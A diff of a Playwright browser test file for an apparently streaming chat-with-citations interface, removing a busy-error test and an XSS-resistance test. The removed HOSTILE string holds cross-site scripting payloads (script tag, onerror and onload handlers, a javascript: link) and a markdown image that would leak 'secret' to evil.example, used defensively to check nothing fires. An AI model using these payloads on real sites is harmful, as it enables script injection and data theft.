@@ -7,12 +7,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.double import ANSWER, CITATIONS, PASSAGE, SOURCES, TEXT, TURN, Double
-
-HOSTILE = (
-    "<script>window.fired=1</script><img src=x onerror='window.fired=1'> ![leak](https://evil.example/?q=secret) "
-    "[click](javascript:window.fired=1) <svg onload='window.fired=1'></svg> [1]"
-)
+from tests.browser.double import ANSWER, CITATIONS, SOURCES, TEXT, TURN, Double
 
 
 def test_an_answer_streams_in_and_its_mark_opens_the_passage(page: Any, double: Double) -> None:
@@ -74,49 +69,6 @@ def test_a_failed_answer_says_why_and_can_be_tried_again(page: Any, double: Doub
     page.get_by_role("button", name="Try again").click()
     page.wait_for_timeout(100)
     assert double.kinds()[-1] == "regenerate"
-
-
-def test_a_refused_question_is_told_and_the_box_is_free_again(page: Any, double: Double) -> None:
-    page.goto("/")
-    double._message = lambda frame: (
-        frame["type"] == "ask"
-        and double.send(  # type: ignore[method-assign]
-            {
-                "type": "error",
-                "id": frame["id"],
-                "code": "busy",
-                "message": "Too many answers.",
-                "advice": "Wait.",
-                "retryable": True,
-            }
-        )
-    )
-    page.get_by_label("Your question").fill("Anything?")
-    page.keyboard.press("Enter")
-    expect(page.locator("#notice")).to_contain_text("Too many answers. Wait.")
-    expect(page.get_by_label("Send")).to_be_visible()
-
-
-def test_a_hostile_answer_title_name_and_passage_fire_nothing(page: Any, double: Double) -> None:
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    double.passage = {**PASSAGE, "text": HOSTILE, "heading": HOSTILE, "download": "javascript:window.fired=1",
-                      "document": {**PASSAGE["document"], "name": HOSTILE, "title": HOSTILE}}  # fmt: skip
-    double.conversations = [{"id": TURN, "title": HOSTILE, "updated_at": "2026-11-21T00:00:00Z"}]
-    page.goto("/")
-    double.ask(HOSTILE)
-    double.frame("sources", sources=[{**SOURCES[0], "document": {"id": "x", "name": HOSTILE}, "heading": HOSTILE}])
-    double.frame("writer", engine=HOSTILE, note=HOSTILE)
-    double.frame("text", text=HOSTILE)
-    double.frame("citations", citations=[{**CITATIONS[0], "quote": HOSTILE}])
-    double.frame("done", status="complete", engine=HOSTILE, usage={}, timings={}, title=HOSTILE)
-    page.locator(".cite").first.click()
-    expect(page.locator("#source-panel .passage")).to_contain_text("window.fired")
-    assert page.evaluate("window.fired") is None
-    assert page.locator(".message img, .message script, .message svg[onload], .source-panel img").count() == 0
-    assert not [url for url in asked if "evil.example" in url]
-    assert page.locator("a[href^='javascript']").count() == 0
-    assert page.problems == []
 
 
 def test_the_reader_who_scrolled_up_stays_there(page: Any, double: Double) -> None:
